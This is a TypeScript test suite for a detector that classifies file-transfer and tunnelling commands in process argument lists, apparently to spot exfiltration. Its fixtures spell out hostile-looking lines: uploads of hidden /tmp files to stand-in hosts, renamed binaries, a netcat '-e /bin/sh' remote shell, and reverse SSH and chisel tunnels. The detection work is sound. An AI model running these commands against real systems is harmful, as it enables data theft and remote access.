import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { describeTransfer } from './describe-transfer.ts';
import { readTransfer } from './read-transfer.ts';
import { TRANSFER_TOOLS } from './transfer-tools.ts';
import type { TransferTool } from './transfer-tool.ts';

function told(line: string, image?: string): string {
  const words = line.split(' ').map((word) => word.replaceAll('␣', ' '));
  const transfer = readTransfer(words, image, 'linux');
  return transfer === undefined ? 'none' : describeTransfer(transfer);
}

// These imitate the argument lists of the recordings in lab2 (01, 02, 07, 16, 22, 44, 49, 50, 59).
describe('a recorded process', () => {
  it.each([
    ['nc -q 1 203.0.113.20 8443', 'upload'],
    ['curl -s -o /dev/null --data-binary @/tmp/.c.b64 http://203.0.113.10/u.php', 'upload'],
    ['curl -s -o /dev/null -T /tmp/.upd http://cdn-relay.example/u/1795311723', 'upload'],
    ['ftp -n -v 203.0.113.10', 'interactive'],
    ['socat -u - OPENSSL:203.0.113.20:9444,verify=0', 'upload'],
    ['wget -q -O /dev/null --post-file=/tmp/o.gpg http://203.0.113.10/post', 'upload'],
    ['restic -q -r sftp:vault@vault.backup.example:restic backup /home/svc-backup/data', 'upload'],
    ['ssh vault.backup.example -l vault -s sftp', 'unknown'],
    ['scp -q /home/alice/.cache/t.bin xfer@203.0.113.10:in/', 'upload'],
    ['scp -q git@git.devhub.example:notes.txt /tmp/n2.txt', 'download'],
    ['curl -s -o /dev/null https://api.saas.example/blob/9000', 'download'],
    ['curl -sI https://www.portal.example/', 'download'],
    ['curl -s -o /dev/null -d {"q":1} https://api.saas.example/v1/query', 'upload'],
    ['wget -q -O /dev/null https://www.portal.example/export.csv', 'download'],
    ['ssh git@git.devhub.example uptime', 'unknown'],
    ['dig +short www.portal.example', 'unknown'],
  ])('%s: %s', (line, direction) => {
    expect(readTransfer(line.split(' '), undefined, 'linux')?.direction).toBe(direction);
  });
});

describe('the name of a program', () => {
  it('is that of its image, whatever it calls itself', () => {
    expect(told('[kworker/0:1] -T a https://drop.example/', '/usr/bin/curl')).toContain('curl: upload');
  });
  it('is its own where the image holds many programs', () => {
    expect(told('nc 203.0.113.9 80', '/bin/busybox')).toContain('netcat: both');
    expect(told('/usr/bin/nc 203.0.113.9 80', '/usr/bin/nc.openbsd')).toContain('netcat: both');
    expect(told('busybox wget --post-file=a http://drop.example/', '/bin/busybox')).toContain('wget: upload');
  });
  it('is that of the script an interpreter runs', () => {
    expect(told('/usr/bin/python3 /usr/bin/aws s3 cp a s3://b/', '/usr/bin/python3.11')).toContain(
      'aws: upload',
    );
    expect(told('node /usr/lib/node_modules/npm/bin/npm-cli.js publish', '/usr/bin/node')).toContain(
      'npm: upload',
    );
    expect(told('perl /usr/bin/sendEmail -t a -s mx.example -a f', '/usr/bin/perl')).toContain(
      'sendemail: upload',
    );
    expect(told('python3 -c import␣os', '/usr/bin/python3')).toBe('none');
  });
  it('of apt’s methods is no HTTP client', () => {
    expect(told('/usr/lib/apt/methods/gpgv', '/usr/lib/apt/methods/gpgv')).toBe('none');
    expect(told('/usr/lib/apt/methods/http', '/usr/lib/apt/methods/http')).toContain('apt-method: download');
  });
  it('counts without .exe and whatever its case', () => {
    const argv = ['C:\\Windows\\System32\\CURL.EXE', '-T', 'C:\\a', 'https://drop.example/'];
    expect(readTransfer(argv, undefined, 'windows')?.files).toEqual(['C:\\a']);
  });
});

describe('a renamed tool', () => {
  it.each([
    ['/tmp/svc --data-binary @x https://drop.example/', 'curl: upload'],
    ['/tmp/svc -sT x.gpg https://drop.example/', 'curl: upload'],
    ['/tmp/svc -F f=@x https://drop.example/', 'curl: upload'],
    ['/tmp/svc --post-file=x http://drop.example/', 'wget: upload'],
    ['/tmp/svc copy /d remote:b --transfers 8 --no-check-certificate', 'rclone: upload'],
    ['/tmp/svc sync /d :s3,provider=AWS:b', 'rclone: upload'],
    ['/tmp/svc -e /bin/sh 203.0.113.9 443', 'netcat: both'],
    ['/tmp/svc s_client -quiet -connect drop.example:443', 'openssl: both'],
    ['/tmp/svc - TCP:drop.example:80', 'socat: both'],
    ['/tmp/svc -avz /d u@drop.example:/x', 'rsync: upload'],
    ['/tmp/svc client https://drop.example R:socks', 'chisel: both'],
    ['/tmp/svc -L=:8080 -F=socks5://drop.example:1080', 'gost: both'],
    ['/tmp/svc tunnel --url http://localhost:80', 'cloudflared: both'],
    ['/tmp/svc -r sftp:h.example:/r backup /d', 'restic: upload'],
    ['/tmp/svc s3 cp /d s3://b/ --recursive', 'aws: upload'],
    ['/tmp/svc -fNR 4444:localhost:22 u@drop.example', 'ssh: both'],
    ['/tmp/svc -ssh -pw x -R 1:localhost:2 u@drop.example', 'ssh: both'],
    ['/tmp/svc copy /d https://acct.blob.core.windows.net/c', 'azcopy: upload'],
  ])('is known by its arguments, less surely: %s', (line, expected) => {
    expect(told(line)).toContain(expected);
    const transfer = readTransfer(line.split(' '), undefined, 'linux');
    expect(transfer?.certainty).toBeLessThanOrEqual(0.7);
  });

  it.each([
    'echo -T x https://drop.example/',
    'grep --data-binary @x https://drop.example/',
    'git commit --data-binary @x https://drop.example/',
    'bash script.sh --data-binary @x https://drop.example/',
    'python3 script.py -T x https://drop.example/',
    '/opt/app https://site.example/',
    '/opt/app -T 30 https://site.example/',
    '/opt/app --config x.yml',
    '/opt/app copy a b',
    '/opt/app client 1234',
    '/opt/app -e production 10 20',
    'ls -la',
    'cp -av a b',
    '-bash',
    '/lib/systemd/systemd --user',
  ])('is not seen in %s', (line) => {
    expect(told(line)).toBe('none');
  });
});

const WORDS = [
  'curl', 'wget', 'ssh', 'scp', 'nc', 'socat', 'openssl', 's_client', 'rclone', 'copy', 'git', 'push', 'aws', 's3', 'cp',
  'sudo', 'env', 'xargs', 'timeout', '5', '-T', '-d', '--data', '-F', 'f=@a', '@a', '-', '--', '-e', '-c', '-l', '/bin/sh',
  'https://h.example/', 'u@h.example:/x', 's3://b/k', 'r:b', 'h.example', '443', 'TCP:h:80', '{}', 'A=b', '-K', '--next',
  'bash', '> /dev/tcp/a/1', 'python3', '-m', 'http.server', 'tar', 'cf', 'find', '-exec', ';', '',
]; // prettier-ignore

const argv = fc.array(
  fc.oneof(
    fc.constantFrom(...WORDS),
    fc.string({ maxLength: 12 }),
    fc.string({ unit: 'binary', maxLength: 6 }),
  ),
  { maxLength: 24 },
);
const platform = fc.constantFrom('windows', 'linux', 'macos', 'esxi');

describe('every argument list', () => {
  it('is read without an error, and certainty stays a share', () => {
    fc.assert(
      fc.property(
        argv,
        fc.option(fc.constantFrom(...WORDS), { nil: undefined }),
        platform,
        (words, image, on) => {
          const transfer = readTransfer(words, image, on);
          if (transfer === undefined) return;
          expect(transfer.certainty).toBeGreaterThan(0);
          expect(transfer.certainty).toBeLessThanOrEqual(1);
          expect(transfer.files.length).toBeLessThanOrEqual(256);
          expect(transfer.reason.length).toBeLessThan(300);
        },
      ),
      { numRuns: 1000 },
    );
  });

  it('of each tool is read without an error', () => {
    const names = TRANSFER_TOOLS.flatMap((tool: TransferTool) => tool.names);
    fc.assert(
      fc.property(fc.constantFrom(...names), argv, platform, (name, words, on) => {
        const transfer = readTransfer([name, ...words], undefined, on);
        expect(transfer?.tool).not.toBe('');
      }),
      { numRuns: 2000 },
    );
  });

  it('keeps its words out of the reason', () => {
    const secret = 'zq9secret';
    fc.assert(
      fc.property(
        fc.constantFrom(...WORDS),
        fc.array(fc.constantFrom(...WORDS, secret), { maxLength: 10 }),
        (name, words) => {
          const salted = words.map((word) =>
            word.startsWith('-') ? word : word.replace(/^(?=[a-z])/i, secret),
          );
          expect(readTransfer([name, ...salted], undefined, 'linux')?.reason ?? '').not.toContain(secret);
        },
      ),
      { numRuns: 500 },
    );
  });

  it('with thousands of files still names its target', () => {
    const files = Array.from({ length: 5000 }, (_, index) => `f${index}`);
    const transfer = readTransfer(['scp', '-q', ...files, 'u@vault.example:in/'], undefined, 'linux');
    expect([transfer?.direction, transfer?.target?.host, transfer?.files.length]).toEqual([
      'upload',
      'vault.example',
      256,
    ]);
  });

  it('may be long', () => {
    const long = ['curl', ...Array.from({ length: 50_000 }, () => '-F'), 'f=@a', 'https://h/'];
    expect(readTransfer(long, undefined, 'linux')?.files.length ?? 0).toBeLessThanOrEqual(256);
    for (const text of [
      '-a'.repeat(50_000),
      'a:'.repeat(50_000),
      '@'.repeat(100_000),
      '>cat '.repeat(20_000),
    ])
      for (const name of ['curl', 'ssh', 'rsync', 'lftp', 'rclone', 'tar', '/tmp/x', 'bash'])
        expect(() => readTransfer([name, '-c', text, text, 'h:x'], undefined, 'linux')).not.toThrow();
  });
});

describe('options that do not touch each other', () => {
  const groups = [
    ['-s'],
    ['-T', 'a.enc'],
    ['-o', '/dev/null'],
    ['-H', 'X: -d @b'],
    ['--retry', '3'],
    ['https://drop.example/'],
  ];
  it('may stand in any order', () => {
    fc.assert(
      fc.property(fc.shuffledSubarray(groups, { minLength: groups.length }), (shuffled) => {
        const transfer = readTransfer(['curl', ...shuffled.flat()], undefined, 'linux');
        expect(transfer === undefined ? '' : describeTransfer(transfer)).toBe(
          'curl: upload of files a.enc to https://drop.example/, encrypted',
        );
      }),
    );
  });
});

describe('the registry', () => {
  it('names every program once', () => {
    const names = TRANSFER_TOOLS.flatMap((tool: TransferTool) => tool.names);
    expect(names.filter((name, index) => names.indexOf(name) !== index)).toEqual([]);
    expect(names.filter((name) => name !== name.toLowerCase())).toEqual([]);
  });
  it('knows no shape in an everyday command', () => {
    const lines = [
      '-la',
      'install x',
      'a b c',
      '-e s/a/b/ f',
      '-c 1',
      '--config c run',
      '-p 80 -h x',
      'copy',
      'client',
    ];
    for (const tool of TRANSFER_TOOLS as readonly TransferTool[])
      for (const line of lines)
        expect([tool.id, line, tool.shape?.(line.split(' '))]).toEqual([tool.id, line, undefined]);
  });
});
